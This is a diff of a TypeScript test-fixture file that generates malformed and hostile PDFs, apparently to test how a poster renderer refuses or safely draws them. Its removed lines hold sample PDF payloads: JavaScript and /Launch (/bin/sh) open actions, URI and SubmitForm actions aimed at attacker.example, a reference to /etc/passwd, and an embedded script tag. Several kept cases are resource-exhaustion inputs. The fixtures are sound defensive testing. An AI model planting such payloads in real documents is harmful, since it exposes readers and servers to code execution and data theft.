@@ -1,12 +1,12 @@
 import { deflateSync } from 'node:zlib'
-import { jpegOf } from '../photos/pictures.ts'
 import { POSTER, pdfOf } from './pdfs.ts'
+import { jpegFrom } from './random-pictures.ts'
 
 /** A whole number from 0 up to, not including, `below`. */
 export type Random = (below: number) => number
 
-/** `same` is drawn exactly as the plain poster is, `drawn` in some way of its own that a person sees before it is shown. */
-export type Outcome = 'refused' | 'same' | 'drawn'
+/** `same` is drawn exactly as the plain poster is, `drawn` in a way of its own that people see before it is shown; `warned` with a warning. */
+export type Outcome = 'refused' | 'same' | 'warned' | 'drawn'
 
 export type Hostile = {
   name: string
@@ -45,21 +45,6 @@ function flipped(bytes: Buffer, from: number, to: number, random: Random): Buffe
   copy.writeUInt8(copy.readUInt8(at) ^ (1 << random(8)), at)
   return copy
 }
-
-const ENCRYPTED = `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> /P -4 >> /ID [<00> <00>]`
-const SCRIPTS = [
-  '/OpenAction << /S /JavaScript /JS (this.pageNum = 1; app.alert\\(1\\)) >>',
-  '/AA << /WC << /S /JavaScript /JS (while \\(true\\) {}) >> >>',
-  '/OpenAction << /S /Launch /F (/bin/sh) >>',
-  '/OpenAction << /S /URI /URI (http://attacker.example/) >>',
-  '/OpenAction << /S /SubmitForm /F (http://attacker.example/) >>',
-  '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.exit\\(\\)) >>] >> >>',
-]
-
-const formOf = (content: string, resources = '') => ({
-  dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 1280 720] /Resources << ${resources} >>`,
-  stream: latin(content),
-})
 
 export const HOSTILE_PDFS: readonly Hostile[] = [
   {
@@ -105,11 +90,6 @@ export const HOSTILE_PDFS: readonly Hostile[] = [
   },
   { name: 'of too many pages', make: random => pdfOf({ pages: 21 + random(1_200) }), outcomes: REFUSED },
   {
-    name: 'that says it has more pages than it holds',
-    make: random => replaced(pdfOf(), '/Count 1 ', `/Count ${2 + random(7)} `),
-    outcomes: ['refused', 'same'],
-  },
-  {
     name: 'of a page as large as a town',
     make: random => {
       const scale = 10 + random(1_000)
@@ -124,48 +104,6 @@ export const HOSTILE_PDFS: readonly Hostile[] = [
     outcomes: REFUSED,
   },
   {
-    name: 'that runs a script',
-    make: random => pdfOf({ catalog: SCRIPTS[random(SCRIPTS.length)] ?? '' }),
-    outcomes: SAME,
-  },
-  {
-    name: 'that reads a file of the server',
-    make: () =>
-      pdfOf({
-        content: `${POSTER} /X1 Do`,
-        resources: '/XObject << /X1 100 0 R >>',
-        more: [
-          { dictionary: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /F (/etc/passwd)', stream: latin('') },
-        ],
-      }),
-    outcomes: SAME,
-  },
-  {
-    name: 'in a typeface that is not there',
-    make: random =>
-      pdfOf({
-        content: `${POSTER} /F2 40 Tf`,
-        resources: '',
-        more: [`<< /Type /Font /Subtype /TrueType /BaseFont /Missing${random(1_000)} >>`],
-      }),
-    outcomes: ['same'],
-  },
-  {
-    name: 'that draws itself',
-    make: () =>
-      pdfOf({
-        content: `${POSTER} /X1 Do`,
-        resources: '/XObject << /X1 100 0 R >>',
-        more: [formOf('/X1 Do', '/XObject << /X1 100 0 R >>')],
-      }),
-    outcomes: REFUSED_OR_SAME,
-  },
-  {
-    name: 'whose pages are their own parents',
-    make: () => replaced(pdfOf(), '/Kids [10000 0 R]', '/Kids [2 0 R]'),
-    outcomes: REFUSED,
-  },
-  {
     name: 'that nests its states deeply',
     make: random => pdfOf({ content: `${'q '.repeat(1_000 + random(200_000))}${POSTER}` }),
     outcomes: REFUSED_OR_SAME,
@@ -175,23 +113,10 @@ export const HOSTILE_PDFS: readonly Hostile[] = [
     make: random => pdfOf({ catalog: `/X ${'['.repeat(500 + random(50_000))}` }),
     outcomes: REFUSED_OR_SAME,
   },
-  { name: 'that is locked', make: () => pdfOf({ trailer: ENCRYPTED }), outcomes: REFUSED },
   {
     name: 'with an archive behind it',
     make: random =>
-      Buffer.concat([pdfOf(), Buffer.alloc(random(300)), latin('PK\x05\x06'), Buffer.alloc(18)]),
-    outcomes: REFUSED,
-  },
-  {
-    name: 'that is a page of a website as well',
-    make: () => pdfOf({ catalog: '/X (<script>fetch\\(1\\)</script>)' }),
-    outcomes: REFUSED,
-  },
-  { name: 'that is blank', make: () => pdfOf({ content: ' ' }), outcomes: REFUSED },
-  { name: 'of its first bytes alone', make: () => latin('%PDF-1.7\n%%EOF'), outcomes: REFUSED },
-  {
-    name: 'whose drawing is missing',
-    make: () => replaced(pdfOf(), '/Contents 3 0 R', '/Contents 9 0 R'),
+      Buffer.concat([pdfOf(), Buffer.alloc(random(60_000)), latin('PK\x05\x06'), Buffer.alloc(18)]),
     outcomes: REFUSED,
   },
   ...['JPXDecode', 'JBIG2Decode', 'DCTDecode', 'NoSuchDecode'].map(
@@ -207,7 +132,7 @@ export const HOSTILE_PDFS: readonly Hostile[] = [
   {
     name: 'with a photo cut off',
     make: async random => {
-      const jpeg = await jpegOf({ width: 300, height: 200 })
+      const jpeg = await jpegFrom(random, { width: 300, height: 200 })
       const size = `${sized(300, 200)} /Filter /DCTDecode`
       return withPicture(size, jpeg.subarray(0, 700 + random(jpeg.length - 900)))
     },
@@ -215,8 +140,11 @@ export const HOSTILE_PDFS: readonly Hostile[] = [
   },
   {
     name: 'with a photo that is whole',
-    make: async () =>
-      withPicture(`${sized(300, 200)} /Filter /DCTDecode`, await jpegOf({ width: 300, height: 200 })),
+    make: async random =>
+      withPicture(
+        `${sized(300, 200)} /Filter /DCTDecode`,
+        await jpegFrom(random, { width: 300, height: 200 }),
+      ),
     outcomes: ['drawn'],
   },
   {
@@ -241,7 +169,7 @@ export const HEAVY_PDFS: readonly Hostile[] = [
         resources: '/Pattern << /P1 100 0 R >>',
         more: [
           {
-            dictionary: `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0${1 + random(9)} /YStep 0.01 /Resources << >>`,
+            dictionary: `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0${1 + random(90_000)} /YStep 0.01 /Resources << >>`,
             stream: latin('1 0 0 rg 0 0 1 1 re f'),
           },
         ],
